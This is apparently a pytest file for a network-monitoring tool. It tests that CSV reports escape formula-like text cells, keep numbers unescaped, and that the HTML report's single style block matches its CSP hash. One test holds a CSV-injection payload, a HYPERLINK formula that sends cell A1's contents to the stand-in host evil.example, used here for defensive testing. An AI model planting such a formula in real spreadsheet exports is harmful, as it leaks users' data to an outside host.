"""Report formats: the CSV is safe to open in a spreadsheet (no cell is evaluated as a formula,
numbers stay numbers), and the HTML report's only style is the block its CSP hash allows."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import re
from datetime import datetime

import pytest

from netwatch.history.availability import Stats
from netwatch.history.formats import CSS, STYLE_HASH, render_csv, render_html
from netwatch.history.report import Report, Row
from tests.unit.history.factory import TZ

START, END = datetime(2026, 10, 1, tzinfo=TZ), datetime(2026, 11, 1, tzinfo=TZ)
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def table(body: bytes) -> list[list[str]]:
    text = body.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("by", ["device", "site"])
@pytest.mark.parametrize("first", DANGEROUS)
def test_a_text_cell_starting_like_a_formula_gets_a_quote(by: str, first: str) -> None:
    evil = f'{first}HYPERLINK("http://evil.example/?"&A1,"bấm")'
    row = Row(by, evil, evil, evil, Stats(up=90.0, down=10.0, outages=1, outage_seconds=10.0),
              site=evil, site_name=evil)  # fmt: skip
    head, line = table(render_csv(Report(START, END, by, None, "Asia/Ho_Chi_Minh", (row,))))
    text_columns = 4 if by == "device" else 3  # id, name, level (and the device's site)
    assert line[:text_columns] == ["'" + evil] * text_columns
    assert all(not cell.startswith("'") for cell in line[text_columns:])
    assert all(not cell.startswith("'") for cell in head)


def test_numbers_are_never_escaped_even_negative_ones() -> None:
    """A negative number is a number: only text columns are escaped."""
    stats = Stats(up=100.0, down=-5.0, unreachable=-1.4, outages=-2, longest_outage=-3.0)
    row = Row("site", "ninh-kieu", "Quận Ninh Kiều", "district", stats, workstations_working=-0.5)
    _, line = table(render_csv(Report(START, END, "site", None, "Asia/Ho_Chi_Minh", (row,))))
    assert line[:3] == ["ninh-kieu", "Quận Ninh Kiều", "Huyện"]
    assert "-5" in line
    assert "-1" in line
    assert "-2" in line
    assert "-3" in line
    assert line[-1] == "-50.000"
    assert all(re.fullmatch(r"-?\d+(\.\d+)?|", cell) for cell in line[3:]), line


def test_a_harmless_name_is_left_as_it_is() -> None:
    for name in ("Phường An Bình", "a=b", "x-1", "'quoted'", ""):
        row = Row("site", "an-binh", name, "commune", Stats(up=1.0))
        _, line = table(render_csv(Report(START, END, "site", None, "UTC", (row,))))
        assert line[1] == name


def test_the_html_report_has_one_style_block_and_the_hash_allows_exactly_it() -> None:
    """No style= attribute (a CSP hash cannot allow those) and the hash is of the block."""
    row = Row("site", "an-binh", "Phường An Bình", "commune",
              Stats(up=90.0, down=10.0, outages=1, outage_seconds=10.0))  # fmt: skip
    page = render_html(Report(START, END, "site", None, "Asia/Ho_Chi_Minh", (row,))).decode()
    blocks = re.findall(r"<style>(.*?)</style>", page, re.DOTALL)
    assert blocks == [CSS]
    assert " style=" not in page
    digest = base64.b64encode(hashlib.sha256(blocks[0].encode()).digest()).decode()
    assert f"'sha256-{digest}'" == STYLE_HASH
    assert '<i class="down">' in page
    assert ".legend i.down{background:#c62828}" in CSS
